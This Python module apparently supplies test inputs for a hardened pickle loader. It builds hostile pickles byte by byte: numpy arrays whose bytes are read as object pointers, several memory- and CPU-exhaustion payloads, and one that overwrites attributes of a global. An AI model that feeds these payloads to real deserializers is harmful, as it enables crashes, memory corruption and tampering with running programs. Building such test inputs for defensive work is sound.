"""Pickles as an attacker writes them, opcode by opcode."""

from __future__ import annotations

import struct


def dtype_with_state(state: bytes) -> bytes:
    """Returns the opcodes of a type of objects that is given a state."""
    return b"cnumpy\ndtype\n(S'O8'\nI0\nI1\ntR" + state + b"b"


def array_of_pointers() -> bytes:
    """An array of objects whose type is told that it holds none, so that its bytes become pointers."""
    flags_off = b"(I3\nS'|'\nNNNI-1\nI-1\nI0\nt"
    content = b"(I1\n(I2\nt" + dtype_with_state(flags_off) + b"I00\nS'" + b"\\x41" * 16 + b"'\nt"
    return b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\n(I0\ntS'b'\ntR" + content + b"b."


def record_of_objects() -> bytes:
    """An array of a type with a field of objects, put in by the state of a type of plain bytes."""
    plain = b"cnumpy\ndtype\n(S'V8'\nI0\nI1\ntR"
    fields = b"(I3\nS'|'\nN(S'a'\nt(dS'a'\n(cnumpy\ndtype\n(S'O8'\nI0\nI1\ntRI0\ntsI8\nI1\nI0\ntb"
    content = b"(I1\n(I2\nt" + plain + fields + b"I00\nS'" + b"\\x41" * 16 + b"'\nt"
    return b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\n(I0\ntS'b'\ntR" + content + b"b."


def nested_hex(times: int) -> bytes:
    """A text of a kilobyte, twice as long each time."""
    content = b"c_codecs\nencode\np0\n0" + b"C\xff" + b"x" * 255
    for _ in range(times):
        content += b"p1\n0g0\n(g1\nS'hex'\ntRp1\n0c_codecs\nencode\n0g1\n"
    return content + b"."


def huge_bytearray() -> bytes:
    return b"cbuiltins\nbytearray\n(I2147483647\ntR."


def laughs(times: int) -> bytes:
    """A list of two lists of two lists ..., each the same one."""
    content = b"]"
    for level in range(times):
        content += b"p%d\n0]g%d\nag%d\na" % (level, level, level)
    return content + b"."


def copies(times: int) -> bytes:
    """Many copies of one long text, made by calls."""
    content = b"]p0\n0T" + struct.pack("<I", 1 << 20) + b"x" * (1 << 20) + b"p1\n0g0\n"
    return content + b"c__builtin__\nbytearray\n(g1\nS'latin1'\ntRa" * times + b"."


def state_of_a_name() -> bytes:
    """Attributes for what a name leads to: would change it for all later files."""
    return b"c_codecs\nencode\n(N(dS'call'\nNstb."


ATTACKS = {
    "pointers": array_of_pointers(),
    "a field of objects": record_of_objects(),
    "nested hex": nested_hex(20),
    "bytearray": huge_bytearray(),
    "laughs": laughs(40),
    "copies": copies(400),
    "state of a name": state_of_a_name(),
    "a deep list": b"]" * 200_000 + b"a" * 199_999 + b".",
    "digits": b"\x80\x02I" + b"9" * 100_000 + b"\n.",
    "an ndarray called": b"cnumpy\nndarray\n((I2\ntcnumpy\ndtype\n(S'O8'\nI0\nI1\ntRtR.",
    "numpy's own calls": b"cnumpy\nload\n(S'x'\ntR.",
}
